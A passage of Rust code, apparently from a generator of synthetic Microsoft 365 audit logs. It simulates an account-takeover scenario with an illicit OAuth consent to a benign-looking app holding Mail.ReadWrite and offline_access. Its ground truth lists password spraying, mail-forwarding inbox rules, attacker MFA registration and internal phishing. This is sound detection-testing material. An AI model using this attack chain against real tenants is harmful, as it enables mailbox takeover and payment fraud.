            "LogonType": 0, "InternalLogonType": 0, "MailboxOwnerUPN": vp.upn, "ClientInfoString": "Client=IMAP4;Protocol=IMAP4", "ClientIPAddress": imap_ip, "SessionId": session,
            "Item": {"Id": item_id, "Subject": m.subject, "InternetMessageId": msgid, "ParentFolder": {"Id": sent_id, "Path": "\\Sent Items"}, "SizeInBytes": 4096},
        }),
    );
    cx.audit(off + 5, id, TimedAction::UnifiedAudit { record: rec });

    // Consent to a malicious app with Mail.ReadWrite + offline_access.
    let app_name = cx
        .rng
        .pick(&[
            "Mail Backup Pro",
            "PDF Viewer Online",
            "Secure Docs Sync",
            "Outlook Add-in Manager",
        ])
        .to_string();
    let app_id = cx.rng.guid();
    let sp_id = cx.rng.guid();
    let owner = cx.rng.guid();
    let off = cx.at(48_000);
    let when = cx.when(off);
    let reply = format!(
        "https://{}.herokuapp.com/oauth/callback",
        app_name.to_ascii_lowercase().replace(' ', "-")
    );
    let sp = identity::third_party_sp(&sp_id, &app_id, &app_name, None, &owner, when, &reply);
    let scopes = vec![
        "Mail.ReadWrite".to_string(),
        "offline_access".to_string(),
        "User.Read".to_string(),
    ];
    cx.push(
        off,
        id,
        TimedAction::ConsentApp {
            user_id: vp.id.clone(),
            service_principal: sp,
            scopes: scopes.clone(),
        },
    );
    let perms = format!(
        "[] => [[Id: {}, ClientId: {sp_id}, PrincipalId: {}, ResourceId: {}, ConsentType: Principal, Scope:  {}, CreatedDateTime: , LastModifiedDateTime ]]; ",
        cx.rng.alnum(43),
        vp.id,
        cx.dir.graph_sp_id,
        scopes.join(" ")
    );
    let mods = vec![
        modified("ConsentContext.IsAdminConsent", Value::Null, json!("False")),
        modified("ConsentContext.IsAppOnly", Value::Null, json!("False")),
        modified("ConsentContext.OnBehalfOfAll", Value::Null, json!("False")),
        modified(
            "ConsentContext.Tags",
            Value::Null,
            json!("WindowsAzureActiveDirectoryIntegratedApp"),
        ),
        modified("ConsentAction.Permissions", Value::Null, json!(perms)),
        modified("TargetId.ServicePrincipalNames", Value::Null, json!(app_id)),
    ];
    let target = json!({"id": sp_id, "displayName": app_name, "type": "ServicePrincipal", "userPrincipalName": null, "groupType": null, "modifiedProperties": mods});
    let da = directory_audit(&mut cx.rng, when, "Consent to application", "ApplicationManagement", "Core Directory", "Assign", user_actor(vp, Some(&imap_ip)), vec![target], &[("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36".into()), ("AppId", app_id.clone())]);
    cx.audit(off + 5, id, TimedAction::DirectoryAudit { audit: da });
    let ual_mods: Vec<Value> = [
        ("ConsentContext.IsAdminConsent", "False"),
        ("ConsentContext.IsAppOnly", "False"),
        ("ConsentContext.OnBehalfOfAll", "False"),
        ("ConsentAction.Permissions", perms.as_str()),
        ("TargetId.ServicePrincipalNames", app_id.as_str()),
    ]
    .iter()
    .map(|(k, v)| json!({"Name": k, "NewValue": v, "OldValue": ""}))
    .collect();
    let rec = ual(
        &mut cx.rng,
        c,
        when,
        8,
        "AzureActiveDirectory",
        "Consent to application.",
        &vp.upn,
        &vp.id,
        0,
        None,
        &format!("ServicePrincipal_{sp_id}"),
        "Success",
        json!({
            "AzureActiveDirectoryEventType": 1,
            "Actor": [{"ID": vp.upn, "Type": 5}, {"ID": format!("User_{}", vp.id), "Type": 2}],
            "Target": [{"ID": format!("ServicePrincipal_{sp_id}"), "Type": 2}, {"ID": sp_id, "Type": 2}, {"ID": app_name, "Type": 1}, {"ID": app_id, "Type": 2}],
            "ModifiedProperties": ual_mods,
            "ExtendedProperties": [{"Name": "extendedAuditEventCategory", "Value": "ServicePrincipal"}],
        }),
    );
    cx.audit(off + 6, id, TimedAction::UnifiedAudit { record: rec });

    let mut targets: Vec<usize> = sprayed.clone();
    targets.extend(phish_to.iter().copied());
    targets.sort_unstable();
    targets.dedup();
    ScenarioTruth {
        id: id.into(),
        kind: "account_takeover".into(),
        description: format!(
            "Password spray from {spray_ip} against {} users (victim's password right: 50076), legacy IMAP4 sign-in from a hosting ASN abroad, rule '.' forwarding payment mail to {fwd} and deleting it, attacker phone added as MFA, internal phishing to {} colleagues, consent to '{app_name}' with Mail.ReadWrite + offline_access.",
            sprayed.len(),
            phish_to.len()
        ),
        target_users: targets.iter().map(|&u| c.people[u].id.clone()).collect(),
        internet_message_ids: vec![msgid],
        start_offset_ms: start,
        artifacts: art(&[
            ("compromised_users", vec![vp.id.clone()]),
            (
                "sprayed_users",
                sprayed.iter().map(|&u| c.people[u].id.clone()).collect(),
            ),
            ("attacker_ips", vec![spray_ip, imap_ip]),
            ("inbox_rules", vec![".".to_string()]),
            ("forwarding_addresses", vec![fwd]),
            ("auth_method_ids", vec![method_id.to_string()]),
            ("auth_method_phone_numbers", vec![phone]),
            ("app_ids", vec![app_id]),
            ("service_principal_ids", vec![sp_id]),
            ("internal_phish_recipients", recips),
            ("urls", vec![url]),
        ]),
    }
}
